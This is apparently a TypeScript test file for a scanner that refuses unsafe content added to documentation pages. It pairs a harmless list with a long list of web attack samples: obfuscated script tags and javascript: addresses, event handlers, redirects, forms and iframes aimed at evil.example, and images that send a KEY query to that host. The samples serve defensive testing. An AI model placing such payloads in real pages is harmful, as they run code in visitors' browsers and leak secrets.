import assert from 'node:assert/strict'
import { test } from 'node:test'
import { changeContent } from '../../../../test/support/content-change.ts'
import { findRefusedContent } from './judge-content.ts'

const added = async (path: string, text: string): Promise<readonly string[]> => {
  const findings = await findRefusedContent(changeContent({}, { [path]: text }))
  return findings.map(({ line, message }) => `${line} ${message}`)
}

const attacks: readonly (readonly [name: string, path: string, text: string, expected: string])[] = [
  ['a script', 'a.md', 'Hello\n\n<script>steal()</script>\n', '3 adds a script'],
  ['a script in capitals', 'a.md', '<ScRiPt src=//evil.example/x.js></sCrIpT>', '1 adds a script'],
  ['a script that never ends', 'a.html', '<p>\n<script src="x.js"', '2 adds a script'],
  ['a script with a slash', 'a.html', '<script/src="x.js"></script>', '1 adds a script'],
  ['a script in an SVG', 'a.svg', '<svg><svg:script>x()</svg:script></svg>', '1 adds a script'],
  ['the script component of Next.js', 'a.mdx', '<Script src="/x.js" />', '1 adds a script'],
  ['a script after a false comment', 'a.md', '<!--> <script>x()</script> -->', '1 adds a script'],
  [
    'a script between comments of fences',
    'a.md',
    '<!--\n```\n-->\n<script>x()</script>\n<!--\n```\n-->\n',
    '4 adds a script',
  ],
  ['a script in a fence inside HTML', 'a.md', '<div>\n```\n<script>x()</script>\n```\n</div>\n', '3 adds a script'],
  ['a script in a fence that does not end', 'a.md', '```html\n<script>x()</script>\n', '2 adds a script'],
  ['a script in a note of MkDocs', 'a.md', '!!! note\n\n    <script>x()</script>\n', '3 adds a script'],
  ['a script in a list', 'a.md', '- a\nb\n\n    <script>x()</script>\n', '4 adds a script'],
  ['a script in a quoted attribute', 'a.md', '<a title="`" href="/">x</a><script>x()</script>`', '1 adds a script'],
  [
    'a script in the frontmatter',
    'a.md',
    '---\nhead:\n  - tag: script\n    attrs: { src: /x.js }\n---\n',
    '3 adds code to the head',
  ],
  [
    'a script in the frontmatter of VitePress',
    'a.md',
    '---\n"head":\n  - - script\n    - src: /x.js\n---\n',
    '3 adds code to the head',
  ],
  ['a JavaScript address', 'a.md', '[x](javascript:alert(1))', '1 adds an address that runs code'],
  ['one in angle brackets with spaces', 'a.md', '[x](< javascript: alert(1) >)', '1 adds an address that runs code'],
  ['one with character references', 'a.md', '[x](java&#x73;cript&colon;alert(1))', '1 adds an address that runs code'],
  [
    'one with references without semicolons',
    'a.html',
    '<a href="&#106avascript&#58alert(1)">x</a>',
    '1 adds an address that runs',
  ],
  [
    'one with a tab and a line break',
    'a.html',
    '<a href="java\tscr\nipt:alert(1)">x</a>',
    '1 adds an address that runs',
  ],
  ['one with a leading control character', 'a.html', '<a href="\u0001javascript:alert(1)">x</a>', '1 adds an address'],
  ['one with invisible characters', 'a.md', '[x](java\u200bscript:alert(1))', '1 adds an address that runs code'],
  ['one in capitals', 'a.md', '[x](JaVaScRiPt:alert(1))', '1 adds an address that runs code'],
  ['one with percent encoding', 'a.md', '[x](javascript%3Aalert(1))', '1 adds an address that runs code'],
  ['one with a backslash', 'a.md', '[x](javascript\\:alert(1))', '1 adds an address that runs code'],
  ['one in a definition', 'a.md', '[x][y]\n\n[y]: javascript:alert(1)\n', '3 adds an address that runs code'],
  ['one in an automatic link', 'a.md', '<javascript:alert(1)>', '1 adds an address that runs code'],
  ['one in an attribute without quotes', 'a.html', '<a href=javascript:alert(1)>x</a>', '1 adds an address that runs'],
  ['one in a string of MDX', 'a.mdx', '<Card to={"javas\\u0063ript:alert(1)"} />', '1 adds an address that runs code'],
  [
    'one in an object of MDX',
    'a.mdx',
    '<Menu items={[{ link: "javascript:alert(1)" }]} />',
    '1 adds an address that runs code',
  ],
  ['one in the navigation', 'docs.json', '{ "href": "javascript:alert(1)" }', '1 adds an address that runs code'],
  ['one in the frontmatter', 'a.md', '---\nurl: javascript:alert(1)\n---\n', '2 adds an address that runs code'],
  ['an address of VBScript', 'a.html', '<a href="vbscript:x">', '1 adds an address that runs code'],
  ['an address of HTML', 'a.md', '[x](data:text/html;base64,AAAA)', '1 adds an address that runs code'],
  ['an event handler', 'a.md', '<img src="/a.png" onerror="x()">', '1 adds an event handler (`onerror`)'],
  ['an event handler in capitals', 'a.html', '<body ONLOAD=x()>', '1 adds an event handler (`ONLOAD`)'],
  ['an event handler after a slash', 'a.html', '<svg/onload=x()>', '1 adds an event handler (`onload`)'],
  ['an event handler of MDX', 'a.mdx', '<button onClick={() => x()}>a</button>', '1 adds an event handler (`onClick`)'],
  ['an event handler of a component', 'a.mdx', '<Tabs onTabChange={run} />', '1 adds an event handler (`onTabChange`)'],
  [
    'an event handler after a control of spaces',
    'a.md',
    `<img src=x onerror${' '.repeat(500)}="x()">`,
    '1 adds an event handler',
  ],
  [
    'an event handler in a comment',
    'a.md',
    '<!-- <img src="--><img src=x oncopy=x()>',
    '1 adds an event handler (`oncopy`)',
  ],
  ['an event of the network', 'a.html', '<body ononline="x()" online="x()">', '1 adds an event handler (`ononline`)'],
  ['an event handler of a list of attributes', 'a.md', '![a](b.png){ onbeforexr="x()" }', '1 adds an event handler'],
  [
    'a script after a code span',
    'a.md',
    'Use `<script>` and [x](javascript:alert(1)).',
    '1 adds an address that runs code',
  ],
  ['an event handler of Vue', 'a.md', '<button @click="x()">a</button>', '1 adds an event handler (`@click`)'],
  [
    'an event handler as a Markdown attribute',
    'a.md',
    '[x](y){: onclick="x()" }',
    '1 adds an event handler (`onclick`)',
  ],
  ['unescaped HTML', 'a.mdx', '<div dangerouslySetInnerHTML={{ __html: "<b>" }} />', '1 adds code in an attribute'],
  [
    'an iframe of another site',
    'a.md',
    '<iframe src="https://evil.example/"></iframe>',
    '1 adds an `<iframe>` of `evil.example`',
  ],
  ['an iframe without a scheme', 'a.html', '<iframe src=/\\evil.example>', '1 adds an `<iframe>` of `evil.example`'],
  ['an iframe with its own content', 'a.html', '<iframe srcdoc="&lt;script&gt;">', '1 adds an `<iframe>` with content'],
  [
    'an iframe with a computed address',
    'a.mdx',
    '<iframe src={`https://${host}`} />',
    '1 adds an `<iframe>` whose address is code',
  ],
  [
    'an iframe with a long tag',
    'a.md',
    `<iframe title="${'a'.repeat(5_000)}" src=//evil.example>`,
    '1 adds an `<iframe>`',
  ],
  ['too much to read', 'a.html', ']('.repeat(50_000), '1 adds more addresses and attributes than can be read'],
  ['an object', 'a.html', '<object data="//evil.example/x"></object>', '1 adds an `<object>` of `evil.example`'],
  ['an embed', 'a.html', '<embed src="https://evil.example/x">', '1 adds an `<embed>` of `evil.example`'],
  [
    'an import from another site',
    'a.mdx',
    "import x from 'https://evil.example/x.js'\n",
    '1 adds an import from another site',
  ],
  [
    'a style sheet of another site',
    'a.html',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '1 adds a style sheet or script from',
  ],
  ['an import of a style', 'a.css', '@import url(https://evil.example/x.css);', '1 adds an import from `evil.example`'],
  ['a redirect', 'a.html', '<meta http-equiv="refresh" content="0;url=https://evil.example">', '1 adds a redirect'],
  [
    'a redirect without a scheme',
    'a.html',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '1 adds a redirect',
  ],
  [
    'a redirect with backslashes',
    'a.html',
    '<meta http-equiv="refresh" content="0;url=/\\\\evil.example">',
    '1 adds a redirect',
  ],
  [
    'an encoded redirect',
    'a.html',
    '<meta http-equiv="refresh" content="0;url=&#47;/evil.example">',
    '1 adds a redirect',
  ],
  [
    'a redirect by a quoted address',
    'a.html',
    `<meta http-equiv="refresh" content="0;url='//evil.example'">`,
    '1 adds a redirect',
  ],
  [
    'a redirect of two contents',
    'a.html',
    '<meta http-equiv="refresh" content="0;url=//evil.example" content="0;url=../new/">',
    '1 adds a redirect',
  ],
  ['a base', 'a.html', '<base href="https://evil.example/">', '1 adds a `<base>`'],
  ['a form', 'a.html', '<form action="https://evil.example/">', '1 adds a form that sends to `evil.example`'],
  [
    'an image with a query',
    'a.md',
    '![x](https://evil.example/a.png?k=KEY)',
    '1 adds an image of `evil.example` with a query',
  ],
  [
    'an image inside a link',
    'a.md',
    '[![x](//evil.example/a?k=KEY)](/b)',
    '1 adds an image of `evil.example` with a query',
  ],
  [
    'an image by reference',
    'a.md',
    '![x][y]\n\n[y]: https://evil.example/?k=KEY\n',
    '3 adds an image of `evil.example`',
  ],
  ['an image of HTML', 'a.md', '<img alt=x src="https://evil.example/?k=KEY">', '1 adds an image of `evil.example`'],
  [
    'an image of a set',
    'a.html',
    '<img srcset="/a 1x, https://evil.example/?k=K 2x">',
    '1 adds an image of `evil.example`',
  ],
  [
    'an image of a style',
    'a.css',
    'a { background: url("https://evil.example/?k=K") }',
    '1 adds an image of `evil.example`',
  ],
  ['an image of MDX', 'a.mdx', '<Frame img={"https://evil.example/?k=K"} />', '1 adds an image of `evil.example`'],
  [
    'an image of the frontmatter',
    'a.md',
    '---\nhero:\n  image: https://evil.example/?k=K\n---\n',
    '3 adds an image of `evil.example`',
  ],
]

test('code on a page, and images that send something, are refused', async (t) => {
  for (const [name, path, text, expected] of attacks) {
    await t.test(name, async () => {
      const found = await added(path, text)
      assert.ok(
        found.some((one) => one.startsWith(expected)),
        `${name}: ${JSON.stringify(found)}`,
      )
    })
  }
})

const harmless: readonly (readonly [name: string, path: string, text: string])[] = [
  ['a script in a fence', 'a.md', 'Use:\n\n```html\n<script src="x.js"></script>\n<img onerror="x()">\n```\n'],
  ['a script in a code span', 'a.md', 'A `<script>` and `javascript:` and `onclick="x()"`.'],
  ['a script in indented code', 'a.md', 'Write this:\n\n    <script>x()</script>\n'],
  ['a script in a fence of MDX', 'a.mdx', '<Steps>\n\n```html\n<script>x()</script>\n```\n\n</Steps>\n'],
  [
    'words',
    'a.md',
    '---\ntitle: "JavaScript: the basics"\n---\n\n# JavaScript: the basics\n\n**JavaScript:** see below (once=1).\n',
  ],
  ['words in a component', 'a.mdx', '<Card title="JavaScript: an introduction" only="yes" once={true}>x</Card>'],
  ['links', 'a.md', '[a](https://acme.example/?x=1) <https://acme.example/> [b](b.md) <a href="mailto:a@b.c">c</a>'],
  ['images', 'a.md', '![a](/a.png?v=1) ![b](https://acme.example/b.png) <img src="data:image/png;base64,AA">'],
  ['a frame of the same site', 'a.md', '<iframe src="/demo.html"></iframe>\n\n<form action="/search"></form>'],
  ['components of Mintlify', 'a.mdx', '<Frame src="https://acme.example/"><img src="/a.png" /></Frame>\n'],
  ['a redirect on the site', 'a.md', '<meta http-equiv="refresh" content="0; url=../new/#top">\n'],
  ['a head without code', 'a.md', '---\nhead:\n  - tag: meta\n    attrs: { name: robots, content: noindex }\n---\n'],
]

test('documentation about code, and plain content, are accepted', async (t) => {
  for (const [name, path, text] of harmless) {
    await t.test(name, async () => assert.deepEqual(await added(path, text), []))
  }
})
